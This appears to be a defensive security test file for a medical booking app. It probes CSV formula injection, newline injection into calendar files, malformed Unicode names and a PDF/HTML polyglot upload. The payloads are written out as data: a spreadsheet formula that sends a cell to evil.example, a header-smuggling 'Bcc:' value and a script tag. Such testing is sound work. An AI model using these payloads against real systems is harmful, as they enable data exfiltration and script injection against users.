/**
 * Text that cannot inject: the cases of the outside probe about names and the files the app writes (the takings CSV,
 * calendar files, names made of nothing, a polyglot attachment). One visit is set up once for all of them: a new
 * patient holds a slot of medico1, who takes the payment at the desk (so medico1 treats the patient and the day has
 * takings).
 */
import { Client, eventCount, newPatient, signedIn } from './app';
import type { HoleCase, HoleOutcome } from './holes';

const day = (offset: number) => new Date(Date.now() + offset * 86_400_000).toISOString().slice(0, 10);

interface Visit {
  patient: Client;
  doctor: Client;
  admin: Client;
  bookingId: string;
}

let visit: Promise<Visit> | undefined;
/** the one visit the cases share, made on first use */
function sharedVisit(base: string): Promise<Visit> {
  visit ??= (async () => {
    const patient = await newPatient(base, 441);
    const doctor = await signedIn(base, 'medico1@example.it');
    const admin = await signedIn(base, 'admin@example.it');
    const anonymous = await new Client(base).visit();
    // a doctor with visit types is booked by type (an untyped hold is refused there): the shortest open to anyone
    const types = (await anonymous.request('GET', `/api/doctors/${doctor.userId}/visit-types`)).json<
      { id: string; minutes: number; priceCents: number; firstVisitOnly: boolean }[]
    >();
    const type = (Array.isArray(types) ? types : []).filter((t) => !t.firstVisitOnly).sort((a, b) => a.minutes - b.minutes)[0];
    for (let d = 1; d <= 14; d++) {
      const free = await anonymous.request('GET', `/disponibilita/query?for=${doctor.userId}&date=${day(d)}`);
      for (const slot of free.status === 200 ? free.json<{ id: string }[]>() : []) {
        const hold = await patient.request('POST', '/prenotazioni', {
          doctor_id: doctor.userId,
          availability_id: slot.id,
          ...(type ? { visit_type: type.id } : {}),
        });
        if (hold.status !== 201) continue;
        const bookingId = hold.json<{ id: string }>().id;
        const desk = await doctor.request('POST', `/api/bookings/${bookingId}/desk-payment`, {
          method: 'cash',
          amountCents: type?.priceCents ?? 8000,
          taxcode: 'RSSMRA75C22H501I',
        });
        if (desk.status >= 300) throw new Error(`pagamento allo sportello: HTTP ${desk.status} ${desk.text.slice(0, 160)}`);
        return { patient, doctor, admin, bookingId };
      }
    }
    throw new Error('nessun orario libero di medico1 nei prossimi 14 giorni');
  })();
  return visit;
}

/** a write that must be refused with 400 and leave the log as it was */
async function refused(client: Client, dataDir: string, method: string, path: string, body: unknown): Promise<{ ok: boolean; seen: string }> {
  const before = eventCount(dataDir);
  const a = await client.request(method, path, body);
  const appended = eventCount(dataDir) - before;
  return { ok: a.status === 400 && appended === 0, seen: `${a.status}${appended ? ` (+${appended} eventi)` : ''}` };
}

/** the content lines of a calendar file, unfolded: each must be a property, none may have been added by a name */
const calendarLines = (ics: string) =>
  ics
    .replace(/\r\n[ \t]/g, '')
    .replace(/\r\n$/, '')
    .split('\r\n');

export const cases: HoleCase[] = [
  {
    name: 'formula nel CSV degli incassi: un medico si chiama =HYPERLINK(...) e la segreteria scarica il CSV',
    limits: 'lifted',
    async run({ base }): Promise<HoleOutcome> {
      const { doctor, admin } = await sharedVisit(base);
      const me = await doctor.request('GET', '/api/me/profile');
      const { name, surname, phone } = me.json<{ name: string; surname: string; phone?: string | null }>();
      const formula = '=HYPERLINK("http://evil.example/?"&A2,"Apri")';
      // the doctor's name: by the doctor's profile, or by the administrator where only the administrator may change it
      const rename = async (to: string) => {
        const own = await doctor.request('PUT', '/api/me/profile', { name: to, surname, ...(phone ? { phone } : {}) });
        return own.status === 200 ? own : admin.request('PUT', `/api/staff/${doctor.userId}/name`, { name: to, surname });
      };
      const renamed = await rename(formula);
      if (renamed.status !== 200)
        return { held: false, detail: `la sonda non riesce a dare quel nome al medico (HTTP ${renamed.status} ${renamed.text.slice(0, 120)})` };
      try {
        // today at the practice (near midnight its date is not UTC's)
        const { timeZone } = (await admin.request('GET', '/api/practice')).json<{ timeZone: string }>();
        const today = new Intl.DateTimeFormat('en-CA', { timeZone, year: 'numeric', month: '2-digit', day: '2-digit' }).format(new Date());
        const csv = await admin.request('GET', `/api/fiscal/takings?day=${today}&format=csv`);
        const cells = csv.text
          .replace(/^\ufeff/, '')
          .split('\r\n')
          .flatMap((line) => line.split(';'))
          .map((cell) => cell.replace(/^"|"$/g, ''));
        const running = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d+(,\d+)?$/.test(cell));
        const shown = cells.some((cell) => cell.includes('HYPERLINK'));
        return {
          held: csv.status === 200 && shown && running.length === 0,
          detail: `CSV HTTP ${csv.status}, nome presente: ${shown}, celle che iniziano con una formula: ${running.length ? running.join(' | ') : 'nessuna'}`,
        };
      } finally {
        await rename(name);
      }
    },
  },
  {
    name: 'a capo nel nome dello studio: finisce nel .ics del paziente (X-WR-CALNAME) e nel calendario del medico',
    limits: 'lifted',
    async run({ base, dataDir }): Promise<HoleOutcome> {
      const { patient, admin, bookingId } = await sharedVisit(base);
      const practice = (await admin.request('GET', '/api/practice')).json<{
        name: string;
        address: string;
        phone: string;
        email: string;
        dataController: string;
      }>();
      const details = { name: practice.name, address: practice.address, phone: practice.phone, email: practice.email, dataController: practice.dataController };
      const injected = await refused(admin, dataDir, 'PUT', '/api/settings/practice', { ...details, name: 'Studio\r\nBcc: vittima@example.it' });
      // what may be stored is escaped on the way out: a name with RFC 5545's own characters
      const named = await admin.request('PUT', '/api/settings/practice', { ...details, name: 'Studio; Rossi, Bianchi' });
      try {
        const ics = await patient.request('GET', `/api/me/bookings/${bookingId}/calendar.ics`);
        const lines = calendarLines(ics.text);
        const strays = lines.filter((line) => !/^[A-Z][A-Z0-9-]*[;:]/.test(line));
        const calname = lines.find((line) => line.startsWith('X-WR-CALNAME:')) ?? '(assente)';
        return {
          held: injected.ok && named.status === 200 && ics.status === 200 && strays.length === 0 && calname === 'X-WR-CALNAME:Studio\\; Rossi\\, Bianchi',
          detail: `nome con a capo: HTTP ${injected.seen}; .ics HTTP ${ics.status}, ${calname}, righe estranee: ${strays.length ? strays.join(' | ') : 'nessuna'}`,
        };
      } finally {
        await admin.request('PUT', '/api/settings/practice', details);
      }
    },
  },
  {
    name: 'nomi di niente nel profilo: spazi di larghezza zero, RTL override, NUL, un surrogato solitario',
    limits: 'lifted',
    async run({ base, dataDir }): Promise<HoleOutcome> {
      const patient = await newPatient(base, 442);
      const seen: string[] = [];
      let held = true;
      for (const [label, name] of [
        ['larghezza zero', '\u200b\u200b\u200b'],
        ['RTL override', '\u202eissoR'],
        ['NUL', 'Ma\u0000rio'],
        ['surrogato solitario', '\ud800'],
      ]) {
        const r = await refused(patient, dataDir, 'PUT', '/api/me/profile', { name, surname: 'Rossi', phone: '+39 333 1234567' });
        held &&= r.ok;
        seen.push(`${label}: ${r.seen}`);
      }
      return { held, detail: seen.join(', ') };
    },
  },
  {
    name: 'poliglotta PDF-HTML caricato come poly.html: servito come application/pdf con il nome poly.html',
    limits: 'lifted',
    async run({ base }): Promise<HoleOutcome> {
      const { patient, doctor } = await sharedVisit(base);
      const polyglot = '%PDF-1.4\n<html><body><script>alert(document.domain)</script></body></html>\n%%EOF\n';
      const added = await doctor.request('POST', `/api/patients/${patient.userId}/attachments?name=poly.html`, polyglot, { 'content-type': 'text/html' });
      const id = added.json<{ id?: string }>().id;
      if (added.status !== 201 || !id) return { held: added.status === 415, detail: `caricamento: HTTP ${added.status} ${added.text.slice(0, 120)}` };
      const res = await fetch(`${base}/api/patients/${patient.userId}/attachments/${id}`, { headers: { cookie: doctor.cookie } });
      const type = res.headers.get('content-type') ?? '';
      const disposition = res.headers.get('content-disposition') ?? '';
      await res.arrayBuffer();
      return {
        held: res.status === 200 && type === 'application/pdf' && /filename="poly\.pdf"/.test(disposition) && !/\.html/i.test(disposition),
        detail: `HTTP ${res.status}, ${type}, ${disposition}`,
      };
    },
  },
];
